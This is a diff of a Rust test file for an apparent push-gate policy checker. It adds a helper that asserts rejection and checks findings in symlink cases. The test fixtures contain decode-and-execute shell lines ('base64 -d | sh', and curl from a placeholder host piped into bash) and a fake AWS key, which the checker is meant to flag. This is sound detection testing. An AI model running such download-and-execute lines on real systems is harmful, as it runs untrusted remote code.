@@ -351,6 +351,18 @@ fn a_symlink_into_an_allowed_directory_is_not_allowed() {
     assert!(err.contains("settings.py"), "{err}");
 }
 
+/// The push is refused for `rule`, named under `shown`, and `check HEAD`
+/// reports exactly that one finding, at `line` of `shown`.
+fn judged_under(c: &Repo, rule: &str, shown: &str, line: u64) {
+    let err = rejected_with(c, rule);
+    assert!(err.contains(shown), "found under {shown}: {err}");
+    assert_eq!(
+        check_head(c),
+        vec![(rule.to_string(), shown.to_string(), line)],
+        "check HEAD: only the new line, under {shown}"
+    );
+}
+
 /// The findings `check HEAD` makes with the gate's policy (in the client).
 fn check_head(c: &Repo) -> Vec<(String, String, u64)> {
     c.policy(POLICY);
@@ -374,14 +386,7 @@ fn a_symlink_whose_target_changes_later_is_judged_under_its_path() {
         "Run the tests first.\necho Y3VybCBldmlsCg== | base64 -d | sh\n",
         "Expand the notes",
     );
-    let err = rejected_with(&c, "payload-decode-exec");
-    assert!(err.contains("run.sh"), "found under the link's path: {err}");
-    let found = check_head(&c);
-    assert_eq!(
-        found,
-        vec![("payload-decode-exec".into(), "run.sh".into(), 2)],
-        "check: only the new line, under the link's path"
-    );
+    judged_under(&c, "payload-decode-exec", "run.sh", 2);
 }
 
 #[test]
@@ -400,14 +405,7 @@ fn a_link_through_a_linked_directory_follows_its_target_changes() {
         "# How to run\ncurl -s https://example.invalid/x | base64 -d | bash\n",
         "Document the installer",
     );
-    let err = rejected_with(&c, "payload-decode-exec");
-    assert!(err.contains("go.sh"), "{err}");
-    let found = check_head(&c);
-    assert_eq!(
-        found,
-        vec![("payload-decode-exec".into(), "go.sh".into(), 2)],
-        "check"
-    );
+    judged_under(&c, "payload-decode-exec", "go.sh", 2);
 }
 
 #[test]
@@ -425,14 +423,7 @@ fn a_file_changed_under_a_linked_directory_is_judged_under_the_link_too() {
         format!("DEBUG = True\nAWS_KEY = \"{}\"\n", aws_key()),
         "Add a key to the fixture",
     );
-    let err = rejected_with(&c, "secret-detected");
-    assert!(err.contains("config/settings.py"), "{err}");
-    let found = check_head(&c);
-    assert_eq!(
-        found,
-        vec![("secret-detected".into(), "config/settings.py".into(), 2)],
-        "check"
-    );
+    judged_under(&c, "secret-detected", "config/settings.py", 2);
 }
 
 #[test]
